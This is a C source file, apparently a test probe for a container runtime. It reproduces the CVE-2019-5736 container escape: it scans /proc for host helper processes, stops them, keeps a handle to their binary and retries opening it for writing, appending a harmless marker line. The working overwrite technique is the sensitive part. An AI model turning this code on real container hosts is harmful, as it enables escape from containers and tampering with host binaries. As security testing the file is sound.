/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* runc's CVE-2019-5736 from inside a pod: overwrite the binary of a host
 * helper that shows up in the pod's PID namespace. For SECONDS, scans
 * /proc in a loop; a process is a target when its name starts with
 * "peapod-stage1" or its /proc/PID/exe names a stage1 helper or a memfd.
 * A target is stopped (SIGSTOP, so that its moment in the pod lasts),
 * its exe read and opened (O_PATH, kept), then continued; one that
 * refuses is looked at again each round, until it is gone or execs. Every kept
 * exe is tried for writing (O_WRONLY|O_APPEND through /proc/self/fd)
 * again and again, waiting out ETXTBSY until the helper is gone, and
 * when one opens, a line is appended. Reports to REPORT, a line each:
 *   helper PID COMM exe=TARGET   or   helper PID COMM denied=ERRNO
 *   execed PID EXE               it had become the pod's command already
 *   held PID TARGET              an fd of a helper's binary was taken
 *   opened TARGET                opened for writing
 *   wrote TARGET                 and written to
 *   done                         at the end
 * Usage: exe-writer REPORT SECONDS */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define HELD_MAX 64

static FILE *report;
static struct {
        int fd;
        char target[256];
        bool written;
} held[HELD_MAX];
static int n_held;
/* Pids done with (their exe taken, or the pod's command by now), and
 * pids already reported as denied: a denied one is looked at again every
 * round, since a helper that drops privileges may become reachable. */
typedef struct PidSet {
        pid_t pids[4096];
        int n;
} PidSet;
static PidSet done, denied;

static void say(const char *fmt, ...) {
        va_list ap;

        va_start(ap, fmt);
        vfprintf(report, fmt, ap);
        va_end(ap);
        fputc('\n', report);
        fflush(report);
}

static bool pid_set_has(const PidSet *s, pid_t pid) {
        for (int i = 0; i < s->n; i++)
                if (s->pids[i] == pid)
                        return true;
        return false;
}

static void pid_set_add(PidSet *s, pid_t pid) {
        if (!pid_set_has(s, pid) && s->n < (int) (sizeof(s->pids) / sizeof(s->pids[0])))
                s->pids[s->n++] = pid;
}

static bool is_target(const char *comm, const char *exe) {
        return strncmp(comm, "peapod-stage1", 13) == 0 || strstr(exe, "peapod-stage1") || strncmp(exe, "/memfd:", 7) == 0;
}

static void try_write(int i) {
        char p[64];
        int fd;

        if (held[i].written)
                return;
        snprintf(p, sizeof(p), "/proc/self/fd/%d", held[i].fd);
        fd = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd < 0)
                fd = open(p, O_RDWR | O_APPEND | O_CLOEXEC);
        if (fd < 0)
                return; /* ETXTBSY while it runs: again next round */
        say("opened %s", held[i].target);
        if (write(fd, "pwned by exe-writer\n", 20) == 20)
                say("wrote %s", held[i].target);
        else
                say("write-failed %s errno=%d", held[i].target, errno);
        held[i].written = true;
        close(fd);
}

static void look_at(pid_t pid) {
        char p[64], comm[32] = "", exe[256] = "";
        bool stopped = false;
        ssize_t n;
        int fd;

        snprintf(p, sizeof(p), "/proc/%d/comm", (int) pid);
        fd = open(p, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return;
        n = read(fd, comm, sizeof(comm) - 1);
        close(fd);
        if (n <= 0)
                return;
        comm[strcspn(comm, "\n")] = 0;
        snprintf(p, sizeof(p), "/proc/%d/exe", (int) pid);
        n = readlink(p, exe, sizeof(exe) - 1);
        exe[n < 0 ? 0 : n] = 0;
        if (!is_target(comm, exe) || pid_set_has(&done, pid))
                return;

        /* Hold it still while we look; PID 1 ignores it anyway. */
        if (pid != 1 && kill(pid, SIGSTOP) == 0)
                stopped = true;
        n = readlink(p, exe, sizeof(exe) - 1);
        if (n >= 0)
                exe[n] = 0;
        if (n < 0) {
                if (!pid_set_has(&denied, pid))
                        say("helper %d %s denied=%s", (int) pid, comm, strerrorname_np(errno) ?: "?");
                pid_set_add(&denied, pid);
        } else if (pid_set_add(&done, pid), !is_target("", exe)) {
                /* It execed the pod's command before it stopped: a file
                 * of the pod's own, not a helper's. */
                say("execed %d %s", (int) pid, exe);
        } else {
                say("helper %d %s exe=%s", (int) pid, comm, exe);
                fd = open(p, O_PATH | O_CLOEXEC);
                if (fd >= 0 && n_held < HELD_MAX) {
                        held[n_held].fd = fd;
                        snprintf(held[n_held].target, sizeof(held[n_held].target), "%s", exe);
                        say("held %d %s", (int) pid, exe);
                        try_write(n_held++);
                } else if (fd >= 0)
                        close(fd);
        }
        if (stopped)
                (void) kill(pid, SIGCONT);
}

int main(int argc, char *argv[]) {
        time_t end;

        if (argc != 3) {
                fprintf(stderr, "Usage: exe-writer REPORT SECONDS\n");
                return 2;
        }
        report = fopen(argv[1], "ae");
        if (!report) {
                perror("fopen");
                return 1;
        }
        end = time(NULL) + atoi(argv[2]);
        say("started %d", (int) getpid());
        while (time(NULL) < end) {
                DIR *d = opendir("/proc");
                struct dirent *de;

                if (!d)
                        return 1;
                while ((de = readdir(d))) {
                        pid_t pid = (pid_t) atoi(de->d_name);

                        if (pid > 0 && pid != getpid())
                                look_at(pid);
                }
                closedir(d);
                for (int i = 0; i < n_held; i++)
                        try_write(i);
        }
        say("done");
        return 0;
}
